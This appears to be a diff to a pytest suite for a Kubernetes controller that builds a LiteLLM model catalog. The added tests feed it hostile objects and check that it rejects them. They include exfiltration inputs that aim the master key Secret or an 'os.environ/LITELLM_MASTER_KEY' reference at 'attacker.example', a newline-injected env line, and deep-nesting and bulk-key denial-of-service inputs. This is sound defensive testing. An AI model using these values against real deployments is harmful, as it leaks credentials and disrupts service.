@@ -64,7 +64,9 @@ def baseline() -> Cluster:
         b.kubeai_model("good-kube", args=["--max-model-len=8192"]),
         b.external_configmap([GOOD_EXT]),
         b.secret("ai-model-provider-acme", {"k": CANARY}, labels=PROVIDER),
-        b.secret("litellm-master-key", {"k": MASTER}),
+        # the master key Secret, labelled by mistake: still never handed out (contracts C.8)
+        b.secret("litellm-masterkey-secret", {"k": MASTER}, labels=PROVIDER),
+        b.secret("plain-secret", {"k": CANARY}, labels={}),
         b.activation("good-act", external={"model": "openai/good-act", "apiKeySecretRef": ACME}),
         rows=[json.loads(json.dumps(r)) for r in FOREIGN],
     )
@@ -172,6 +174,48 @@ def _url_password_not_published(c: Cluster) -> None:
 def _template_untouched(c: Cluster) -> None:
     assert not any(isinstance(x, PatchAgentTemplate) for x in c.commands[-20:])
     assert any(e.reason == "UnexpectedShape" for e in c.world.events)
+
+
+def _says(c: Cluster, name: str, text: str) -> None:
+    assert text in c.record(name)["message"], c.record(name)
+    assert any(text in e.message for e in c.world.events), "no Event says how to allow it"
+
+
+def _one_ready_line(c: Cluster) -> None:
+    lines = c.data["defaults.env"].splitlines()
+    assert [line for line in lines if line.startswith("AI_APPLIANCE_MODEL_CATALOG_READY=")] == [
+        "AI_APPLIANCE_MODEL_CATALOG_READY=true"
+    ], lines
+
+
+SA_TOKEN_REF = {"name": "ai-model-provider-token", "key": "token"}
+EMPTY_REF = {"name": "ai-model-provider-empty", "key": "k"}
+UNDECODABLE_REF = {"name": "ai-model-provider-bytes", "key": "k"}
+
+
+def _sa_token() -> dict[str, Any]:
+    token = b.secret("ai-model-provider-token", {"token": CANARY}, labels=PROVIDER)
+    token["type"] = "kubernetes.io/service-account-token"
+    return token
+
+
+def _undecodable() -> dict[str, Any]:
+    secret = b.secret("ai-model-provider-bytes", {})
+    secret["data"] = {"k": "//79"}  # base64 of bytes that are not UTF-8
+    return secret
+
+
+def _deep(levels: int) -> dict[str, Any]:
+    node: dict[str, Any] = {}
+    for _ in range(levels):
+        node = {"a": node}
+    return node
+
+
+def _deep_kubeai() -> dict[str, Any]:
+    model = b.kubeai_model("deep")
+    model["spec"]["args"] = [_deep(600)]
+    return model
 
 
 def _bulk(c: Cluster) -> None:
@@ -463,11 +507,173 @@ CASES = [
     Case(
         "missing-secret",
         "apiKeySecretRef to a Secret that does not exist",
-        ext({"name": "ms", "model": "openai/ms", "apiKeySecretRef": {"name": "nope", "key": "k"}}),
+        ext(
+            {
+                "name": "ms",
+                "model": "openai/ms",
+                "apiKeySecretRef": {"name": "ai-model-provider-nope", "key": "k"},
+            }
+        ),
         "external",
         "ms",
         "error",
         "SecretNotFound",
+    ),
+    Case(
+        "unlisted-secret",
+        "models.json apiKeySecretRef to a Secret not on the allow-list (no label, no ai-model-provider-)",
+        ext({"name": "ul", "model": "openai/ul", "apiKeySecretRef": {"name": "plain-secret", "key": "k"}}),
+        "external",
+        "ul",
+        "error",
+        "SecretNotAllowed",
+        check=lambda c: _says(c, "ul", "kubectl label secret -n ai plain-secret"),
+    ),
+    Case(
+        "models-json-master-key",
+        "models.json apiKeySecretRef to the master key Secret (labelled) with the attacker's apiBase",
+        ext(
+            {
+                "name": "mk-steal",
+                "model": "openai/x",
+                "apiBase": "https://attacker.example/v1",
+                "apiKeySecretRef": {"name": "litellm-masterkey-secret", "key": "k"},
+            }
+        ),
+        "external",
+        "mk-steal",
+        "error",
+        "SecretNotAllowed",
+    ),
+    Case(
+        "service-account-token",
+        "apiKeySecretRef to a labelled kubernetes.io/service-account-token Secret",
+        lambda c: (
+            c.apply(_sa_token()),
+            c.apply(
+                b.external_configmap(
+                    [GOOD_EXT, {"name": "sat", "model": "openai/sat", "apiKeySecretRef": SA_TOKEN_REF}]
+                )
+            ),
+        ),
+        "external",
+        "sat",
+        "error",
+        "SecretNotAllowed",
+    ),
+    Case(
+        "empty-secret-value",
+        "the referenced Secret key holds an empty value",
+        lambda c: (
+            c.apply(b.secret("ai-model-provider-empty", {"k": ""})),
+            ext({"name": "ev", "model": "openai/ev", "apiKeySecretRef": EMPTY_REF})(c),
+        ),
+        "external",
+        "ev",
+        "error",
+        "SecretValueInvalid",
+    ),
+    Case(
+        "undecodable-secret-value",
+        "the referenced Secret key is not UTF-8",
+        lambda c: (
+            c.apply(_undecodable()),
+            ext({"name": "uv", "model": "openai/uv", "apiKeySecretRef": UNDECODABLE_REF})(c),
+        ),
+        "external",
+        "uv",
+        "error",
+        "SecretValueInvalid",
+    ),
+    Case(
+        "env-reference-activation",
+        "a ModelActivation with model os.environ/LITELLM_MASTER_KEY and the attacker's apiBase",
+        act(
+            "exfil",
+            external={
+                "model": "os.environ/LITELLM_MASTER_KEY",
+                "customLlmProvider": "openai",
+                "apiBase": "https://attacker.example",
+            },
+        ),
+        "modelactivation",
+        "exfil",
+        "error",
+        "EnvReferenceRejected",
+        check=lambda c: "environ" not in json.dumps(c.world.rows) or pytest.fail("published"),
+    ),
+    Case(
+        "env-reference-api-base",
+        "models.json apiBase os.environ/ATTACKER (any case, spaces around)",
+        ext({"name": "eab", "model": "openai/eab", "apiBase": " OS.Environ/ATTACKER "}),
+        "external",
+        "eab",
+        "error",
+        "EnvReferenceRejected",
+    ),
+    Case(
+        "env-reference-inline-key",
+        "an inline apiKey os.environ/LITELLM_MASTER_KEY",
+        ext({"name": "eik", "model": "openai/eik", "apiKey": "os.environ/LITELLM_MASTER_KEY"}),
+        "external",
+        "eik",
+        "error",
+        "EnvReferenceRejected",
+    ),
+    Case(
+        "lone-surrogate-name",
+        'a name holding an escaped lone surrogate ("\\ud800"): crash-looped both replicas before',
+        ext_text('{"models": [' + json.dumps(GOOD_EXT) + ', {"name": "\\ud800", "model": "openai/s"}]}'),
+        "external",
+        "models.json[1]",
+        "error",
+        "InvalidField",
+    ),
+    Case(
+        "newline-name",
+        "a name with a newline and a second AI_APPLIANCE_MODEL_CATALOG_READY=false line",
+        ext({"name": "evil\nAI_APPLIANCE_MODEL_CATALOG_READY=false", "model": "openai/e"}),
+        "external",
+        "models.json[1]",
+        "error",
+        "InvalidField",
+        check=_one_ready_line,
+    ),
+    Case(
+        "huge-name",
+        "one 100 KB name (made the catalog too large for everyone before)",
+        ext({"name": "h" * 100_000, "model": "openai/huge"}),
+        "external",
+        "models.json[1]",
+        "error",
+        "InvalidField",
+    ),
+    Case(
+        "misshaped-inline-key",
+        'models.json {"models": {...}} holding an inline apiKey',
+        ext_text(json.dumps({"models": {"x": {"name": "x", "apiKey": INLINE}}})),
+        "external",
+        "ai-external-models",
+        "error",
+        "InvalidJSON",
+    ),
+    Case(
+        "deep-kubeai-model",
+        "a KubeAI Model nested 600 levels deep (~4 KB)",
+        lambda c: c.apply(_deep_kubeai()),
+        "kubeai",
+        "deep",
+        "error",
+        "NestedTooDeeply",
+    ),
+    Case(
+        "deep-activation",
+        "a ModelActivation nested 600 levels deep",
+        act("deep-act", external={"model": "openai/d", "extra": _deep(600)}),
+        "modelactivation",
+        "deep-act",
+        "error",
+        "NestedTooDeeply",
     ),
     Case(
         "missing-key",
@@ -498,7 +704,10 @@ CASES = [
         "a ModelActivation pointing apiKeySecretRef at the LiteLLM master key Secret",
         act(
             "sneaky",
-            external={"model": "openai/x", "apiKeySecretRef": {"name": "litellm-master-key", "key": "k"}},
+            external={
+                "model": "openai/x",
+                "apiKeySecretRef": {"name": "litellm-masterkey-secret", "key": "k"},
+            },
         ),
         "modelactivation",
         "sneaky",
@@ -926,6 +1135,57 @@ def test_deeply_nested_models_json_and_a_restart_with_it_present(input_stage: An
     stage.wait_converged(60)
     outcome.user_sees = (
         f"routes.json {outcome.measured['observed']} and an Event; the restarted controller publishes"
+    )
+    assert not outcome.failed(), outcome.failed()
+
+
+@pytest.mark.faults
+def test_hostile_objects_through_the_api(input_stage: Any) -> None:
+    """Issue 12 items 4 and 5 through the real API server and controller process: a models.json with 2,000
+    inline keys (PBKDF2 on the loop stalled it 12.9 s, past the lease deadline) and 100 distinct
+    apiKeySecretRef names (one watch each starved the Lease of connections). Each is rejected alone; the
+    leader keeps its Lease, stays ready and keeps publishing. (All but the last inline-key item are
+    disabled: their keys are still fingerprinted, and LiteLLM is spared 2,000 rows.)"""
+    stage, _ = input_stage
+    outcome = _outcome(
+        "hostile-api",
+        "a models.json with 2,000 inline keys and 100 Secret names through the API server",
+        "InlineKeyRejected",
+    )
+    leader = stage.leader
+    base = models_json(stage)
+    keys = [
+        {
+            "name": f"inline-{i}",
+            "model": f"openai/inline-{i}",
+            "apiKey": f"{INLINE}-{i}",
+            "enabled": i == 1999,
+        }
+        for i in range(2000)
+    ]
+    refs = [
+        {"name": f"ref-{i}", "model": f"openai/ref-{i}", "apiKeySecretRef": {"name": f"nope-{i}", "key": "k"}}
+        for i in range(100)
+    ]
+    began = time.monotonic()
+    stage.admin.apply(external_configmap(stage.ns, json.dumps({"models": [*base, *keys, *refs]})))
+    wait_until(record_is(stage, "external", "inline-0", "withheld", "Disabled"), 120, 0.5, "models.json read")
+    outcome.measured["inline_publish_s"] = round(time.monotonic() - began, 1)
+    name = stage.change()
+    wait_until(lambda: name in stage.catalog_models(), 30, what=f"{name} published meanwhile")
+    outcome.check("the same replica still leads", stage.leader.name == leader.name)
+    outcome.check("/readyz ok", leader.get("/readyz").status_code == 200)
+    outcome.check("good routes stay published", good_published(stage))
+    record = stage.record("external", "inline-1999") or {}
+    outcome.measured["past_the_bound"] = f"{record.get('state')}/{record.get('reason')}"
+    outcome.check("keys past the per-object bound are refused", record.get("reason") == "InlineKeyRejected")
+    outcome.check("no inline key in the catalog", INLINE not in json.dumps(stage.catalog_data()))
+    outcome.measured["observed"] = "rejected alone; leader kept"
+    stage.admin.apply(external_configmap(stage.ns, json.dumps({"models": base})))
+    stage.wait_converged(120)
+    outcome.user_sees = (
+        "routes.json InlineKeyRejected past 256 keys; "
+        f"the 2,000-key models.json published in {outcome.measured['inline_publish_s']:.0f} s, leader kept"
     )
     assert not outcome.failed(), outcome.failed()
 
